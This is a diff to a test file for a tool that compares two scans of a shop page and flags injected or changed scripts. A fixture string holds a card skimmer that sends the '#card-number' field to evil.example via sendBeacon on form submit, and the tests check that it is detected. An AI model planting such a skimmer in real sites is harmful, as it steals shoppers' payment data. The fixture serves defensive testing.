@@ -18,6 +18,20 @@ const sum = 'function total(items) { return items.reduce(function (a, b) { retur
 const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`
 
 describe('two scans of a page', () => {
+  it('name the lines of very many places in a long script at once, each kind of line end counted', () => {
+    const many = Array.from({ length: 3_000 }, (_, n) => `fetch('https://h${n}.example/')${['\n', '\r', '\u2028'][n % 3]}`).join('')
+    const [change] = compareVisited(visit([]), visit([script(app, many)])).changes
+    expect(change?.reasons.length).toBeLessThanOrEqual(41)
+    expect(change?.lines[0]?.after?.[0]).toBe(1)
+    expect(change?.lines.at(-1)?.after?.[1]).toBeGreaterThan(100)
+  })
+
+  it('read bytes as browsers do: what is appended to a script in UTF-16 is seen', () => {
+    const utf16 = (text: string) => new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')])
+    const given = (text: string): Visit => visit([makeScript(bodies, { url: app, bytes: utf16(text) })])
+    expect(compareVisited(given(sum), given(steals)).changes).toMatchObject([{ verdict: 'malicious' }])
+  })
+
   it('that saw the same have no change and leave nothing out', () => {
     const one = visit([script(app, sum), script(null, 'var cart = 1'), script(tag, 'var t = 2')])
     expect(compareVisited(one, one)).toEqual({
@@ -54,6 +68,20 @@ describe('two scans of a page', () => {
     const [one, other] = [1, 2].map((n) => visit([script(null, `window.cart = { total: ${n}, id: "c${n}" }`)])) as [Visit, Visit]
     expect(compareVisited(one, other).changes.map(({ verdict }) => verdict)).toEqual(['volatile'])
     expect(compareVisited(unread(one), unread(other)).changes.map(({ verdict }) => verdict)).toEqual(['rebuild'])
+  })
+
+  it('keep and tell what was masked, in short pieces with their lines, and what a script can do no more', () => {
+    const carts = (what: string) => Array.from({ length: 30 }, (_, n) => `add(${n}, "${what}${n}7c2e9f41b06d${what}")`).join('\n')
+    const [change] = compareVisited(visit([script(null, carts('4d'))]), visit([script(null, carts('e1'))])).changes
+    expect(change?.verdict).toBe('volatile')
+    expect(change?.masked).toHaveLength(20)
+    expect(change?.masked[1]).toEqual({ before: '4d17c2e9f41b06d4d', after: 'e117c2e9f41b06de1', lines: { before: [2, 2], after: [2, 2] } })
+    const long = (end: string) => `window.cart = ${JSON.stringify({ note: 'n'.repeat(900), name: end, more: 'm'.repeat(900) })}`
+    const [piece] = compareVisited(visit([script(null, long('Mug'))]), visit([script(null, long('Cap'))])).changes[0]?.masked ?? []
+    expect(piece?.after).toMatch(/^….{0,30}Cap.{1,120}$/)
+    expect(piece?.after.length).toBeLessThanOrEqual(120)
+    const less = compareVisited(visit([script(app, steals)]), visit([script(app, sum)])).changes[0]
+    expect(less?.goneCapabilities.map(({ sentence }) => sentence)).toContain('Sends card data to evil.example.')
   })
 
   it('of two look-alike inline scripts tell the one that turned', () => {
@@ -101,6 +129,7 @@ describe('two scans of a page', () => {
         why: { code: 'no-content', given: { scan: 'before' }, sentence: 'The scan before did not get its content.' },
       },
     ])
+    expect(compareVisited(visit([ran]), visit([script(app, steals)])).summary.scripts).toMatchObject({ same: 0, changed: 0 })
   })
 
   it('tell a new script that does not run quietly', () => {
@@ -120,6 +149,7 @@ describe('two scans of a page', () => {
     const unsure = compareVisited(one, visit([], partial('timeout')))
     expect(unsure.changes).toEqual([])
     expect(unsure.notCompared.map(({ subject }) => subject)).toContain('shop.example/app.js')
+    expect(unsure.summary.scripts).toEqual({ same: 0, changed: 0, added: 0, removed: 0 })
     expect(told(compareVisited(one, visit([], partial('dialog-held'))))).toEqual(['script-removed rebuild: script-removed'])
   })
 
@@ -128,14 +158,16 @@ describe('two scans of a page', () => {
     expect(compared.changes[0]?.reasons.at(-1)).toEqual({
       code: 'before-partial',
       given: { what: 'script', outcome: 'timeout' },
-      sentence: 'The scan before is partial (timeout). The script may have been there.',
+      sentence: 'The scan before is partial. The scan reached its time limit. The script may have been there.',
     })
   })
 
   it('of which one was not evaluated are not compared at all', () => {
     const compared = compareVisited(visit([script(app, sum)]), failed)
     expect(compared).toMatchObject({ changes: [], summary: { alert: false, scripts: null } })
-    expect(compared.notCompared).toMatchObject([{ subject: 'the page', why: { sentence: 'The scan after was not evaluated (bot-wall).' } }])
+    expect(compared.notCompared).toMatchObject([
+      { subject: 'the page', why: { sentence: 'The scan after was not evaluated. A bot wall answered instead of the page.' } },
+    ])
   })
 
   it('as a desktop and as a phone differ in what only one was given, whichever it was', () => {
@@ -148,6 +180,8 @@ describe('two scans of a page', () => {
       const [change] = compareVisited(...pair).changes
       expect(change).toMatchObject({ kind: 'profile', verdict: 'malicious', subject: 'shop.example/m.js' })
       expect(change?.reasons[0]?.code).toBe('profile-differs')
+      // Two visitors have no before.
+      expect(change?.reasons.map(({ code }) => code)).not.toContain('script-added')
     }
   })
 })
